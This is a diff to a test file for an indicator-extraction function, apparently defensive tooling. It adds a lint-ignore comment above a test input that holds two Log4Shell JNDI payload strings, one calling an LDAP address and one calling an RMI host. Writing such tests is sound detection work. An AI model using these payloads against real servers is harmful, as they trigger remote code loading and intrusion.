@@ -80,6 +80,7 @@ describe('extractIndicators', () => {
 
   it("takes a Log4Shell payload's JNDI lookup as a URL, its address only inside it", () => {
     expect(
+      // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell payload, literally
       extractIndicators('UA: ${jndi:ldap://167.99.36.212:1389/a} and ${jndi:rmi://c2.example.net/x}'),
     ).toEqual([
       { kind: 'url', value: 'ldap://167.99.36.212:1389/a' },
